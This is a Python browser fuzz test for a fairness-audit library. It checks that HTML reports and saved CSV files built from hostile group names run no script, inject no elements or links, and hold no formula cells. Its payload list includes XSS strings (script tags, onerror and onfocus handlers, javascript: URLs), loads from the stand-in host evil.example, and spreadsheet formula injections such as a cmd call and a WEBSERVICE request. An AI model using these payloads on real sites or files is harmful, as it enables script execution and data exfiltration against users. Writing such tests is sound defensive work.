"""Names made of hostile pieces, on pages in a real browser: each is shown as text, and nothing obeys it."""

import csv
import io
import re
from collections import Counter
from urllib.parse import quote

import pandas as pd

from browsing import watched_page
from hostile import HOSTILE, runs_as_formula, split_carelessly, without_apostrophes
from selfselect import audit, compare, plan_subsidies, threshold_frontier
from selfselect.auditing import Comparison, Provenance

#: What names are put together from, beside the names of the hostile list: what opens and closes, what scripts and
#: templates obey, names that objects have already, characters that are not seen, halves of characters.
PIECES = [
    *HOSTILE, "", " ", "\t", "\r", "\n", "\r\n", "\0", "\x08", "\x1b[2J", "\x7f", "\x85", "\xa0", "\xad", "\u061c",
    "\u200d", "\u200e", "\u2028", "\u2029", "\u202d", "\u2067", "\u3164", "\ufe0f", "\ufeff", "\ufdd0", "\ufffd",
    "\U000e0041", "\U0010ffff", "\ud83d", "\ude00", "\udc80", "e" + "\u0301" * 300, "x" * 5000, "<" * 300, "A", "B7",
    "Σ", "İ", "ß", "العربية", "עברית", "0", "-1", "1e5", "007", "25-34", "<25", "undefined", "true",
    "[object Object]", "__proto__", "constructor", "toString", "hasOwnProperty", "length", "$&", "$'", "$`", "$1",
    "$$", "%s", "%c", "{0}", "<", ">", "&", '"', "'", "`", "\\", "/", ";", ",", "|", ": ", "\\u003c", "\\x3c", "\\",
    "%3Cscript%3E", "&lt", "&#0;", "&#x3c;script&#x3e;", "&nbsp;", "{{", "}}", "{%", "%}", "{#", "${", "}", "<!--",
    "-->", "<![CDATA[", "]]>", "<?xml ?>", "</bdi>", "</title>", "</style>", "</script>", "</SCRIPT >", "</textarea>",
    "</td></tr></table>", "</svg>", "<p>", "<script>window.pwned=1</script>", "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>", "<script type=module>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>", "<img src=//evil.example/x.png>",
    "<svg><script>window.pwned=1</script></svg>", "<svg/onload=window.pwned=1>",
    "<math><mi href=javascript:alert(1)>", "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<object data=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}@import '//evil.example'</style>", "<a href=javascript:window.pwned=1>x</a>",
    "<plaintext>", "<template>", "<xmp>", "<noscript>",
    "<form action=//evil.example><input autofocus onfocus=window.pwned=1>", '" onmouseover="window.pwned=1',
    "' autofocus onfocus='window.pwned=1", '"><b>', "javascript:window.pwned=1", "');window.pwned=1;//",
    '");window.pwned=1;//', "`;window.pwned=1;`", "*/window.pwned=1/*", "};window.pwned=1;{", "url(//evil.example)",
    "=", "+", "-", "@", "\uff1d", "\ufe63", "=cmd|' /C calc'!A0", '=WEBSERVICE("//evil.example")',
]  # fmt: skip
#: Longest name that is tried.
LONGEST = 6000
#: A cell that is a number: a spreadsheet shows it, whatever sign it has.
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")

#: What is looked at in a page, after all of it was shown as on paper: every group, every chart, every table.
LOOK = """async (sought) => {
  const drawn = () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done))));
  const texts = (where) => [...document.querySelectorAll(where)].map((element) => element.textContent);
  await drawn();
  const verdict = texts("#verdict");
  dispatchEvent(new Event("beforeprint"));
  document.querySelectorAll("details").forEach((details) => { details.open = true; });
  await drawn();
  const all = [...document.querySelectorAll("*")];
  const seen = {
    verdict,
    names: texts("#groups tbody bdi"),
    marked: texts("bdi"),
    note: texts("#note"),
    command: texts("dd code"),
    files: Object.fromEntries([...document.querySelectorAll("[data-csv]")].map(({ dataset }) =>
      [dataset.csv, selfselect.csv(dataset.csv)])),
    unseen: [document.title, ...texts("h1, h2, p, li, th, td, dd, caption, summary, label, svg text, option")],
    scripts: document.scripts.length,
    strange: all.map((element) => element.localName).filter((name) =>
      /^(img|iframe|frame|object|embed|base|form|math|template|plaintext|xmp|foreignobject|audio|video)$/i.test(name)),
    obeying: all.flatMap((element) => element.getAttributeNames()).filter((name) => /^on|srcdoc|action$/i.test(name)),
    links: all.map((element) => element.getAttribute("href")).filter((to) => ![null, "#", "data:,"].includes(to)),
    matches: null,
  };
  const search = document.getElementById("search");
  if (search !== null) {
    search.value = sought;
    search.dispatchEvent(new Event("input"));
    document.getElementById("more")?.click(); // many names hold a short one
    seen.matches = texts("#groups tbody bdi");
  }
  await drawn();
  return { ...seen, pwned: window.pwned === undefined ? null : String(window.pwned) };
}"""


def hostile_text(rng):
    """A text of a few pieces, or of characters from anywhere; maybe cut, in other letters, or over and over."""
    if rng.random() < 0.15:
        return "".join(map(chr, rng.integers(0, rng.choice([0x80, 0x3000, 0x110000]), rng.integers(1, 30))))
    text = "".join(PIECES[i] for i in rng.integers(0, len(PIECES), rng.choice([1, 2, 3, 6])))
    match int(rng.integers(8)):
        case 0:
            text = text[int(rng.integers(len(text) + 1)) :]
        case 1:
            text = text[: int(rng.integers(len(text) + 1))]
        case 2:
            text = text.swapcase()
        case 3:
            text = text * int(rng.integers(2, 40))
    return text[:LONGEST]


def hostile_names(rng, most):
    """Different names of groups, without halves of characters: pandas, which counts by group, takes none."""
    texts = (hostile_text(rng) for _ in range(int(rng.choice([most // 10, most // 2, most]))))
    return list(dict.fromkeys(text.encode("utf-8", "ignore").decode() for text in texts))


def escaped(text):
    """A text with what is not seen as its number."""
    return "".join(char if char.isprintable() else char.encode("unicode_escape").decode() for char in text)


def as_shown(text):
    """A name as pages show it: without what is not seen, the end of a long one left out."""
    seen = escaped(text) or "(empty)"
    return seen if len(seen) <= 120 else f"{seen[:100]}... ({len(text):,} characters)"


def is_plain(name):
    """Whether a page shows a name as it is, so that its sentences are those of the library."""
    return bool(name) and as_shown(name) == name


def some_page(rng):
    """Names, a result for people of these groups, the audit that the page computes (if any), their title and source."""
    way = int(rng.integers(10))
    names = hostile_names(rng, 20 if way < 3 else 100)  # plans, comparisons and frontiers of many groups take long
    each = int(rng.integers(1, 9))
    z = pd.Series([name for name in names for _ in range(each)], dtype=object)
    y, score = rng.integers(0, 2, len(z)), rng.random(len(z)).round(1)
    y[0] = 1  # without anybody qualified there is no frontier
    texts = [hostile_text(rng) if rng.random() < 0.7 else "" for _ in range(7)]
    source = Provenance(
        title=texts[0], command=texts[1], label=texts[2], groups=texts[3], score=texts[4], note=texts[5],
        dated=texts[6], warnings=(hostile_text(rng),),
    )  # fmt: skip
    given = {"sensitive_features": z, "cost": float(rng.choice([0.3, 0.5, 0.8])), "provenance": source}
    match way:
        case 0:
            plan = plan_subsidies(y, score=score, **given)
            return names, plan, plan.after, source.title, source
        case 1:
            called = [hostile_text(rng), hostile_text(rng)]
            both = [audit(y, score=values, **given) for values in (score, score[::-1])]
            return names, compare(*both, names=called, n_resamples=5), None, " and ".join(called), source
        case 2:
            return names, threshold_frontier(y, score, **given), None, source.title, source
        case 3:
            result = audit(y, y_pred=score > 0.5, **given)
        case 4:
            result = audit(y, score=score, **given | {"cost": {name: rng.integers(1, 9) / 10 for name in names}})
        case _:
            result = audit(y, score=score, **given)
    return names, result, result, source.title, source


class NamesInBrowser:
    """Pages with hostile names, one after the other in the same browser.

    Called like the other fuzzers, once for each page; every name on it is an input.
    """

    def __init__(self, browser):
        self._browser, self._page, self._wrong = browser, None, []

    def __call__(self, rng, folder, tally):
        names, result, audited, title, source = some_page(rng)
        tally.tried += len(names)
        path = folder / f"names-{tally.tried}.html"
        path.write_text(result.to_html(min_cell=0), encoding="utf-8")
        tally.read += len(names)
        sought = as_shown(names[int(rng.integers(len(names)))])
        address = f"#{quote(hostile_text(rng)[:200], errors='replace')}" if rng.random() < 0.3 else ""
        try:
            seen = self._look(path, address, sought)
        finally:
            path.unlink()
        check_nothing_ran(seen)
        check_files(seen["files"])
        for text, where, longest in ((source.note, "note", 2000), (source.command, "command", 4000)):
            assert not text or escaped(text)[:longest] in seen[where], brief(text, seen[where])
        marked, shown = Counter(seen["marked"]), Counter(map(as_shown, names))
        assert not title or as_shown(title) in marked, brief(title, marked)
        if audited is not None:
            check_columns(seen, source, audited)
            assert Counter(seen["names"]) == shown, brief(seen["names"], shown)
            assert sought in seen["matches"], brief(sought, seen["matches"])
            if all(map(is_plain, names)) and seen["verdict"]:
                assert seen["verdict"] == [audited.verdict()], brief(seen["verdict"], audited.verdict())
        elif isinstance(result, Comparison):
            assert set(shown) <= set(marked), brief(set(shown) - set(marked))
        tally.compared += len(names)

    def _look(self, path, address, sought):
        """What a page shows; anything that it tells the browser, asks for or beyond is a finding."""
        if self._page is None:
            self._page = watched_page(self._browser, self._wrong)
        self._wrong.clear()
        try:
            self._page.goto(path.as_uri() + address)
            seen = self._page.evaluate(LOOK, sought)
            assert self._wrong == [], brief(self._wrong)
        except Exception:
            self._page.context.close()  # the next page begins anew
            self._page = None
            raise
        return seen


def check_nothing_ran(seen):
    """No script of a name ran, and none made an element, an attribute or a link."""
    assert seen["pwned"] is None, seen["pwned"]
    assert seen["scripts"] == 3
    raw = {char for text in seen["unseen"] for char in text if not char.isprintable()} - set("\n\xa0")
    assert not raw, raw
    assert seen["strange"] == seen["obeying"] == seen["links"] == [], brief(
        seen["strange"], seen["obeying"], seen["links"]
    )


def check_files(files):
    """Tables that a page saves are whole, and no cell runs."""
    assert files
    for text in files.values():
        rows = cells_of(text)
        assert {len(row) for row in rows} == {len(rows[0])}
        for cell in (cell for row in rows for cell in row if not NUMBER.fullmatch(cell)):
            assert not any(map(runs_as_formula, [cell, *split_carelessly(cell)])), brief(cell)


def check_columns(seen, source, audited):
    """Columns are called on the page as they are, and groups in the file as on the page."""
    called = {source.label, source.groups, source.score if audited.threshold is not None else ""} - {""}
    assert set(map(as_shown, called)) <= set(seen["marked"]), brief(called, seen["marked"])
    saved = [row[0] for row in cells_of(seen["files"]["groups"])[1:]]
    assert sorted(map(without_apostrophes, saved)) == sorted(map(without_apostrophes, seen["names"]))


def brief(*values):
    """What a complaint shows of some values."""
    return "; ".join(repr(value)[:500] for value in values)


def cells_of(text):
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))
